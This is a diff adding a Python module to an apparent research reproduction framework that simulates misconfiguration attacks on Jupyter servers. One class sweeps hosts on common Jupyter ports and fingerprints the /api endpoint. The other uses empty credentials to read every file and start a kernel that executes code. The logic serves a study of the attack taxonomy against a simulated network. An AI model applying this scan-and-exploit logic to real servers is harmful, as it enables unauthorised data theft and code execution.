@@ -1,0 +1,117 @@
+"""Security misconfiguration attacks (taxonomy: misconfiguration →
+exposed data, disruption).
+
+The internet-scan reality the paper alludes to: crawlers sweep address
+space for Jupyter's ports, fingerprint ``/api``, and fully exploit any
+server that answers without credentials — the ``--ip=0.0.0.0 --token=''``
+deployments that periodically make the news at universities.
+"""
+
+from __future__ import annotations
+
+import json
+from typing import Dict, List, Set
+
+from repro.attacks.base import Attack, AttackResult
+from repro.attacks.scenario import Scenario
+from repro.taxonomy.oscrp import Avenue, Concern
+from repro.util.errors import ReproError
+from repro.wire.http import HttpRequest, parse_response
+
+JUPYTER_PORTS = [8888, 8889, 8890, 8080, 8000, 8081, 9999, 8899]
+
+
+class OpenServerScanAttack(Attack):
+    """Sweep hosts/ports for exposed Jupyter servers."""
+
+    name = "open-server-scan"
+    avenue = Avenue.MISCONFIGURATION
+    technique = "open-server-scan"
+
+    def __init__(self, *, ports: List[int] | None = None, probe_delay: float = 0.2):
+        self.ports = ports if ports is not None else JUPYTER_PORTS
+        self.probe_delay = probe_delay
+
+    def execute(self, scenario: Scenario) -> AttackResult:
+        open_servers: List[str] = []
+        probes = 0
+        for host in list(scenario.network.hosts.values()):
+            if host is scenario.attacker_host:
+                continue
+            for port in self.ports:
+                probes += 1
+                scenario.run(self.probe_delay)
+                try:
+                    conn = scenario.attacker_host.connect(host, port)
+                except ReproError:
+                    continue
+                # Fingerprint: unauthenticated GET /api returns the version.
+                responses = []
+                buf = b""
+
+                def on_data(data):
+                    nonlocal buf
+                    buf += data
+                    resp, rest = parse_response(buf)
+                    if resp:
+                        responses.append(resp)
+                        buf = rest
+
+                conn.on_data_client = on_data
+                conn.send_to_server(HttpRequest("GET", "/api", {"Host": host.ip}).encode())
+                scenario.run(0.5)
+                if responses and responses[0].status == 200 and b"version" in responses[0].body:
+                    open_servers.append(f"{host.ip}:{port}")
+                if conn.open:
+                    conn.close()
+        return self._result(
+            success=bool(open_servers),
+            concerns=set(),  # recon alone exposes nothing yet
+            narrative=f"{probes} probes, fingerprinted {len(open_servers)} Jupyter servers",
+            probes=probes,
+            servers_found=open_servers,
+        )
+
+
+class OpenServerExploitAttack(Attack):
+    """Full exploitation of a token-less server: read everything, run code."""
+
+    name = "open-server-exploit"
+    avenue = Avenue.MISCONFIGURATION
+    technique = "unauthenticated-api-abuse"
+
+    def execute(self, scenario: Scenario) -> AttackResult:
+        client = scenario.attacker_client(token="")  # no credentials at all
+        resp = client.request("GET", "/api/contents/")
+        if resp.status != 200:
+            return self._result(
+                success=False,
+                narrative=f"server requires auth (status {resp.status})",
+                status=resp.status,
+            )
+        listing = json.loads(resp.body)
+        stolen: Dict[str, int] = {}
+        for entry in listing.get("content") or []:
+            if entry["type"] != "directory":
+                model = client.json("GET", f"/api/contents/{entry['path']}")
+                stolen[entry["path"]] = len(str(model.get("content", "")))
+        # Prove code execution: start a kernel and run a cell.
+        ran_code = False
+        try:
+            client.start_kernel()
+            client.connect_channels()
+            reply = client.execute("1 + 1")
+            ran_code = reply is not None and reply.content.get("status") == "ok"
+        except Exception:
+            ran_code = False
+        concerns: Set[Concern] = {Concern.EXPOSED_DATA}
+        if ran_code:
+            concerns.add(Concern.DISRUPTION_OF_COMPUTING)
+        return self._result(
+            success=True,
+            concerns=concerns,
+            narrative=f"unauthenticated: read {len(stolen)} entries, code exec={ran_code}",
+            entries_read=len(stolen),
+            bytes_read=sum(stolen.values()),
+            code_execution=ran_code,
+        )
